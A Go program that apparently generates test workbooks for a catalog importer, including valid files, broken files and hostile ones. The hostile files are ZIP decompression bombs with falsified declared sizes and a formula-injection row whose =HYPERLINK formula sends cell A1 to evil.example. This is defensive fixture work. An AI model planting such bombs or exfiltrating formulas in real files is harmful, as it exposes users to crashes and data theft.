package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/csv"
	"fmt"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"github.com/xuri/excelize/v2"
)

// part is one part of a hand-built workbook: head, n times fill, tail.
// With declared set, the ZIP directory says the part unzips to declared
// bytes, whatever it holds: the lie of a bomb.
type part struct {
	name, head, fill, tail string
	n                      int
	declared               uint64
}

const (
	nsMain = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
	nsRel  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	nsPkg  = "http://schemas.openxmlformats.org/package/2006/relationships"
)

// bookParts are the parts of a one-sheet workbook ("Products") whose
// sheet holds rows (the XML inside sheetData) and whose shared strings
// are the si elements sst. Cell style 1 is a date (numFmtId 14), style 2
// a date and time (numFmtId 22, "m/d/yy h:mm").
func bookParts(rows, sst string) []part {
	return []part{
		{name: "[Content_Types].xml", head: `<?xml version="1.0" encoding="UTF-8"?>` +
			`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Default Extension="xml" ContentType="application/xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>` +
			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
			`<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>` +
			`<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>` +
			`</Types>`},
		{name: "_rels/.rels", head: `<Relationships xmlns="` + nsPkg + `">` +
			`<Relationship Id="rId1" Type="` + nsRel + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{name: "xl/workbook.xml", head: `<workbook xmlns="` + nsMain + `" xmlns:r="` + nsRel + `">` +
			`<sheets><sheet name="Products" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{name: "xl/_rels/workbook.xml.rels", head: `<Relationships xmlns="` + nsPkg + `">` +
			`<Relationship Id="rId1" Type="` + nsRel + `/worksheet" Target="worksheets/sheet1.xml"/>` +
			`<Relationship Id="rId2" Type="` + nsRel + `/styles" Target="styles.xml"/>` +
			`<Relationship Id="rId3" Type="` + nsRel + `/sharedStrings" Target="sharedStrings.xml"/></Relationships>`},
		{name: "xl/styles.xml", head: `<styleSheet xmlns="` + nsMain + `">` +
			`<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/><xf numFmtId="22" applyNumberFormat="1"/></cellXfs></styleSheet>`},
		{name: "xl/sharedStrings.xml", head: `<sst xmlns="` + nsMain + `">` + sst + `</sst>`},
		{name: "xl/worksheets/sheet1.xml", head: sheetHead + rows + sheetTail},
	}
}

const (
	sheetHead = `<worksheet xmlns="` + nsMain + `"><sheetData>`
	sheetTail = `</sheetData></worksheet>`
)

// with replaces the part of p's name in parts.
func with(parts []part, p part) []part {
	out := append([]part(nil), parts...)
	for i := range out {
		if out[i].name == p.name {
			out[i] = p
			return out
		}
	}
	panic("no part " + p.name)
}

// sheet is the worksheet part: head rows, n times fill, tail rows.
func sheet(headRows, fill string, n int, tailRows string) part {
	return part{name: "xl/worksheets/sheet1.xml", head: sheetHead + headRows, fill: fill, n: n, tail: tailRows + sheetTail}
}

// colName is the column letter(s) of 0-based column i.
func colName(i int) string {
	s := ""
	for i++; i > 0; i = (i - 1) / 26 {
		s = string(rune('A'+(i-1)%26)) + s
	}
	return s
}

// textRow is row r (1-based) of inline text cells; empty cells are left
// out, as spreadsheet programs do.
func textRow(r int, cells []string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<row r="%d">`, r)
	for i, c := range cells {
		if c != "" {
			b.WriteString(textCell(fmt.Sprintf("%s%d", colName(i), r), c))
		}
	}
	b.WriteString("</row>")
	return b.String()
}

func textCell(ref, text string) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<c r="%s" t="inlineStr"><is><t xml:space="preserve">`, ref)
	escape(&b, text)
	b.WriteString(`</t></is></c>`)
	return b.String()
}

func escape(b *strings.Builder, s string) {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
	r.WriteString(b, s)
}

// csvRows are the cells of CSV lines.
func csvRows(ls ...string) [][]string {
	out := make([][]string, len(ls))
	for i, l := range ls {
		out[i] = strings.Split(l, ",")
	}
	return out
}

// rowsXML are textRow of rows, numbered from first.
func rowsXML(first int, rows [][]string) string {
	var b strings.Builder
	for i, r := range rows {
		b.WriteString(textRow(first+i, r))
	}
	return b.String()
}

// zipParts writes parts as a ZIP archive. Small parts are stored, the
// others deflated; entries carry no time, so the bytes are the same on
// every run.
func zipParts(parts []part) ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, p := range parts {
		if err := zipPart(zw, p); err != nil {
			return nil, fmt.Errorf("%s: %w", p.name, err)
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

func zipPart(zw *zip.Writer, p part) error {
	if p.n == 0 && p.declared == 0 {
		w, err := zw.CreateHeader(&zip.FileHeader{Name: p.name, Method: zip.Store})
		if err == nil {
			_, err = io.WriteString(w, p.head+p.tail)
		}
		return err
	}
	var data bytes.Buffer
	fw, err := flate.NewWriter(&data, flate.BestCompression)
	if err != nil {
		return err
	}
	sum := crc32.NewIEEE()
	w := io.MultiWriter(fw, sum)
	io.WriteString(w, p.head)
	for range p.n {
		io.WriteString(w, p.fill)
	}
	io.WriteString(w, p.tail)
	if err := fw.Close(); err != nil {
		return err
	}
	size := uint64(len(p.head) + p.n*len(p.fill) + len(p.tail))
	if p.declared != 0 {
		size = p.declared
	}
	raw, err := zw.CreateRaw(&zip.FileHeader{Name: p.name, Method: zip.Deflate, CRC32: sum.Sum32(),
		CompressedSize64: uint64(data.Len()), UncompressedSize64: size})
	if err != nil {
		return err
	}
	_, err = raw.Write(data.Bytes())
	return err
}

// workbook is a hand-built workbook: its file name and its parts.
type workbook struct {
	name  string
	parts []part
}

// workbooks are the .xlsx (and .xls) files.
func workbooks(catalogs string) ([]file, error) {
	headRow := textRow(1, strings.Split(header, ","))
	goodRows := rowsXML(2, csvRows(good...))
	base := bookParts(headRow+goodRows, `<si><t>Linen</t></si>`)
	out, err := zipBooks(brokenBooks(base, headRow, goodRows))
	if err != nil {
		return nil, err
	}
	book, err := zipParts(base)
	if err != nil {
		return nil, err
	}
	odd, err := oddFiles(book)
	if err != nil {
		return nil, err
	}
	out = append(out, odd...)
	saved, err := savedCatalogs(catalogs)
	if err != nil {
		return nil, err
	}
	return append(out, saved...), nil
}

// brokenBooks are the workbooks built from base, the valid one whose sheet
// holds headRow and goodRows: bombs, a broken cap and the odd ones out.
func brokenBooks(base []part, headRow, goodRows string) []workbook {
	const mib = 1 << 20
	bigCells := `<c t="inlineStr"><is><t>` + strings.Repeat("y", 600<<10) + `</t></is></c>`
	return []workbook{
		// 16 MiB of spaces between the header and the first product.
		{"bomb-sheet-whitespace.xlsx", with(base, sheet(headRow, " ", 16*mib, goodRows))},
		// A cell of 16 MiB.
		{"bomb-cell.xlsx", with(base, sheet(headRow+goodRows+`<row r="5"><c r="A5" t="inlineStr"><is><t>`, "x", 16*mib, `</t></is></c></row>`))},
		// A row of eight cells of 600 KiB each: 4.7 MiB together.
		{"bomb-row-cells.xlsx", with(base, sheet(headRow+goodRows+`<row r="5">`, bigCells, 8, `</row>`))},
		// A shared string of 16 MiB.
		{"bomb-shared-string.xlsx", with(base, part{name: "xl/sharedStrings.xml", head: `<sst xmlns="` + nsMain + `"><si><t>`, fill: "z", n: 16 * mib, tail: `</t></si></sst>`})},
		// 16 MiB of line breaks in the styles.
		{"bomb-styles-whitespace.xlsx", with(base, part{name: "xl/styles.xml", head: `<styleSheet xmlns="` + nsMain + `"><cellXfs count="1">`, fill: "\n", n: 16 * mib, tail: `<xf numFmtId="0"/></cellXfs></styleSheet>`})},
		// Directory entries that say a part unzips to gigabytes.
		{"bomb-styles-declared.xlsx", with(base, part{name: "xl/styles.xml", head: `<styleSheet xmlns="` + nsMain + `"/>`, declared: 3 << 30})},
		{"bomb-content-types-declared.xlsx", with(base, part{name: "[Content_Types].xml", head: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`, declared: 3 << 30})},
		{"bomb-sheet-declared.xlsx", with(base, part{name: "xl/worksheets/sheet1.xml", head: sheetHead + headRow + sheetTail, declared: 5 << 30})},
		// The cap's second row has a description referring to shared
		// string 99 of 1.
		{"shared-string-range.xlsx", with(base, sheet(headRow, "", 0, capRows(goodRows, capLine(`<c r="G6" t="s"><v>99</v></c>`))))},
		// The cap's second row has a cell in column Z, beyond the header.
		{"too-many-cells.xlsx", with(base, sheet(headRow, "", 0, capRows(goodRows, capLine(textCell("Z6", "extra")))))},
		{"header-only.xlsx", with(base, sheet(headRow, "", 0, ""))},
		dateBook(),
		formulaBook(headRow),
	}
}

// capRows are goodRows, the cap's first row, broken in place of its
// second row (row 6), and the bag after it.
func capRows(goodRows, broken string) string {
	return goodRows + textRow(5, strings.Split(capFirst, ",")) + broken + textRow(7, strings.Split(bag, ","))
}

// capLine is the cap's second row (row 6) with extra after its cells.
func capLine(extra string) string {
	return strings.TrimSuffix(textRow(6, strings.Split(capRow(""), ",")), "</row>") + extra + "</row>"
}

// zipBooks are the files of books, zipped.
func zipBooks(books []workbook) ([]file, error) {
	var out []file
	for _, s := range books {
		b, err := zipParts(s.parts)
		if err != nil {
			return nil, fmt.Errorf("%s: %w", s.name, err)
		}
		out = append(out, file{s.name, b})
	}
	return out, nil
}

// savedCatalogs are two real catalog exports of catalogs saved as .xlsx.
func savedCatalogs(catalogs string) ([]file, error) {
	var out []file
	for _, c := range []string{"shopify-apparel", "woocommerce-sample-products"} {
		b, err := savedAsXLSX(filepath.Join(catalogs, c+".csv"))
		if err != nil {
			return nil, err
		}
		out = append(out, file{c + ".xlsx", b})
	}
	return out, nil
}

// dateBook is a catalog with a date column "made" shown with its time of
// day (cell style 2), read through date.yaml: the cap's second row was
// made at 14:30, which no date target takes.
func dateBook() workbook {
	cols := append(strings.Split(header, ","), "made")
	madeCol := colName(len(cols) - 1)
	var rows strings.Builder
	rows.WriteString(textRow(1, cols))
	made := []string{"45352", "45352", "", "45352", "45352.6041666667"} // 2024-03-01, then at 14:30
	for i, l := range append(append([]string(nil), good...), capFirst, capRow("")) {
		r := i + 2
		row := textRow(r, strings.Split(l, ","))
		if made[i] != "" {
			row = strings.TrimSuffix(row, "</row>") + fmt.Sprintf(`<c r="%s%d" s="2"><v>%s</v></c></row>`, madeCol, r, made[i])
		}
		rows.WriteString(row)
	}
	return workbook{"date-time.xlsx", bookParts(rows.String(), `<si><t>Linen</t></si>`)}
}

// formulaBook holds text that a spreadsheet program would run as a
// formula were it written to a CSV file as is, and a real formula cell.
func formulaBook(headRow string) workbook {
	rows := headRow +
		textRow(2, strings.Split(`=HYPERLINK("http://evil.example/?d="&A1;"Mug"),Enamel Mug,,,kitchen,@SUM(1+1),,0.3,2.5,,10,,,,,,,12,6`, ",")) +
		`<row r="3">` + textCell("A3", "tee") + `<c r="B3" t="str"><f>UPPER("Linen Tee")</f><v>LINEN TEE</v></c>` +
		textCell("F3", "+TEE-S") + textCell("H3", "0.2") + textCell("L3", "Size") + textCell("M3", "S") + textCell("R3", "20") + `</row>` +
		textRow(4, strings.Split(`tee,,,,,-TEE-M,,0.2,5,,4,Size,M,,,,,20,10`, ","))
	return workbook{"formula.xlsx", bookParts(rows, `<si><t>Linen</t></si>`)}
}

// oddFiles are files named .xlsx (and an .xls) that are no workbook, or
// a damaged one; book is a valid workbook.
func oddFiles(book []byte) ([]file, error) {
	other, err := zipParts([]part{
		{name: "readme.txt", head: "Product photos, spring collection.\n"},
		{name: "photos/mug.jpg", head: "\xff\xd8\xff\xe0 not really a photo"},
	})
	if err != nil {
		return nil, err
	}
	ods, err := zipParts([]part{
		{name: "mimetype", head: "application/vnd.oasis.opendocument.spreadsheet"},
		{name: "content.xml", head: `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>`},
	})
	if err != nil {
		return nil, err
	}
	ole := append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 504)...)
	return []file{
		{"not-a-workbook.xlsx", other},
		{"opendocument.xlsx", ods},
		{"excel97.xlsx", ole},
		{"excel97.xls", ole},
		{"csv-named-xlsx.xlsx", []byte(lines("\n", append([]string{header}, good...)...))},
		{"truncated.xlsx", book[:len(book)/2]},
		{"empty.xlsx", nil},
	}, nil
}

// savedAsXLSX is the CSV export at path as a spreadsheet program saves it
// as .xlsx: cells that read as numbers become numbers, true and false
// booleans, the rest text.
func savedAsXLSX(path string) ([]byte, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	r := csv.NewReader(f)
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	x := excelize.NewFile()
	defer x.Close()
	for i, rec := range recs {
		cells := make([]any, len(rec))
		for j, c := range rec {
			cells[j] = cellValue(c, i == 0)
		}
		if err := x.SetSheetRow("Sheet1", fmt.Sprintf("A%d", i+1), &cells); err != nil {
			return nil, err
		}
	}
	var buf bytes.Buffer
	if err := x.Write(&buf); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// cellValue is what a spreadsheet program makes of the CSV text c.
func cellValue(c string, header bool) any {
	switch {
	case header || c == "":
		return c
	case c == "true" || c == "false":
		return c == "true"
	}
	n, err := strconv.ParseFloat(c, 64)
	if err != nil || strings.ContainsAny(c, "eExX") || (len(c) > 1 && c[0] == '0' && c[1] != '.') {
		return c // not a number, or one that keeps its text (leading zeros)
	}
	return n
}
